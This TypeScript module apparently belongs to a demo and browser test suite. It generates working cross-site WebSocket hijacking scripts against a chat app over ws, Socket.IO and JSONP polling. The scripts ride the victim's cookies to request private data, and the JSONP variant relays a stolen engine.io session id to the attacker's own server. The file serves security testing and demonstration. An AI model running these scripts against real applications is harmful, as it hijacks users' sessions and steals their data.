import type { ChatEndpoint } from '../chat-endpoint.js';

/** What `attack()` reports; the attacker page stores it in `window.attackOutcome`. */
export type AttackOutcome =
  /** The socket opened with the victim's session and answered with the victim's data. */
  | { readonly stolen: unknown }
  /**
   * ws: the handshake was refused. Browsers fire `error`, then `close` with 1006: the HTTP
   * status of a refused handshake is never exposed to page scripts.
   */
  | {
      readonly refused: true;
      readonly error: boolean;
      readonly closeCode: number;
      readonly wasClean: boolean;
    }
  /** Socket.IO: the handshake was refused; the client reports a `connect_error`. */
  | { readonly refused: true; readonly connectError: string }
  /**
   * JSONP polling: the `<script>` that would have carried the handshake fired `error` (the
   * server answered it with an error status, which a page cannot read), so no session id.
   */
  | { readonly refused: true; readonly scriptError: true }
  /** JSONP polling: the attacker's server could not drive the stolen session (the reason). */
  | { readonly relayFailed: string }
  /**
   * The socket opened, then the app closed it before answering (the chat closes sockets
   * without a session: ws with 4401, Socket.IO with a server-side disconnect).
   */
  | { readonly closedBeforeAnswer: true; readonly closeCode: number; readonly reason: string }
  | { readonly closedBeforeAnswer: true; readonly reason: string };

/**
 * The hijacking attempt, as page JavaScript: open the victim app's socket (the browser adds
 * the victim's cookies by itself), ask for private data, and report what happened through
 * `report(outcome)`, once. The demo's attacker page and the browser test suite run this code.
 * For Socket.IO, the page must load the client first (`attackClientTag`).
 */
export function attackScript(target: ChatEndpoint): string {
  return target.transport === 'ws' ? wsAttack(target.url) : socketIoAttack(target.url);
}

/**
 * Where the JSONP attack page hands the stolen engine.io session id to its own server, which
 * drives the session from there (`demo/stolen-session.ts`) and answers with the outcome.
 */
export const JSONP_RELAY_PATH = '/jsonp/session';

/**
 * The JSONP variant against a Socket.IO app: no WebSocket and no Socket.IO client, only a
 * `<script>` tag. engine.io still answers a polling handshake with `j=<n>` in the query as
 * the script `___eio[<n>]("<payload>");`, and a no-cors `<script>` GET carries the victim's
 * cookies (same site) but no `Origin` header. The payload is the open packet, with the
 * session id (`sid`): whoever holds it can drive the session, which the app authenticated
 * from this request's cookie. The page sends the sid to its own server
 * (`JSONP_RELAY_PATH`), which connects the namespace and asks `whoami` with neither cookie
 * nor `Origin`, and reports what came back.
 */
export function jsonpAttackScript(appOrigin: string): string {
  const handshakeUrl = `${appOrigin}/socket.io/?EIO=4&transport=polling&j=0`;
  return `
function attack(report) {
  ${REPORT_ONCE}
  window.___eio = [(payload) => {
    // engine.io's open packet: '0' and a JSON object that holds the session id.
    const open = payload.split('\\x1e').find((packet) => packet.startsWith('0'));
    const { sid } = JSON.parse(open.slice(1));
    fetch(${JSON.stringify(JSONP_RELAY_PATH)}, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ sid }),
    })
      .then((response) => response.json())
      .then(once, (error) => once({ relayFailed: String(error) }));
  }];
  document.getElementById('jsonp-handshake')?.remove();
  const script = document.createElement('script');
  script.id = 'jsonp-handshake';
  script.src = ${JSON.stringify(handshakeUrl)};
  script.onerror = () => once({ refused: true, scriptError: true });
  document.head.append(script);
}`;
}

/** The `<script>` that loads Socket.IO's client from the target app; none for ws. */
export function attackClientTag(target: ChatEndpoint): string {
  return target.transport === 'ws'
    ? ''
    : `<script src="${target.url}/socket.io/socket.io.js"></script>`;
}

const REPORT_ONCE = `let reported = false;
  const once = (outcome) => {
    if (reported) return;
    reported = true;
    report(outcome);
  };`;

function wsAttack(socketUrl: string): string {
  return `
function attack(report) {
  const socket = new WebSocket(${JSON.stringify(socketUrl)});
  let opened = false;
  let errored = false;
  ${REPORT_ONCE}
  socket.onopen = () => {
    opened = true;
    socket.send(JSON.stringify({ event: 'whoami', data: null }));
  };
  socket.onerror = () => {
    errored = true;
  };
  socket.onmessage = (message) => {
    once({ stolen: JSON.parse(message.data).data });
    socket.close();
  };
  socket.onclose = (event) => {
    if (!opened) once({ refused: true, error: errored, closeCode: event.code, wasClean: event.wasClean });
    else once({ closedBeforeAnswer: true, closeCode: event.code, reason: event.reason });
  };
}`;
}

/** WebSocket transport only, as a hijacking page would: it needs no CORS, polling does. */
function socketIoAttack(appOrigin: string): string {
  return `
function attack(report) {
  const socket = io(${JSON.stringify(appOrigin)}, {
    transports: ['websocket'],
    reconnection: false,
    forceNew: true,
  });
  ${REPORT_ONCE}
  socket.on('connect', () => {
    socket.emit('whoami', null, (data) => {
      once({ stolen: data });
      socket.disconnect();
    });
  });
  socket.on('connect_error', (error) => once({ refused: true, connectError: error.message }));
  socket.on('disconnect', (reason) => once({ closedBeforeAnswer: true, reason }));
}`;
}
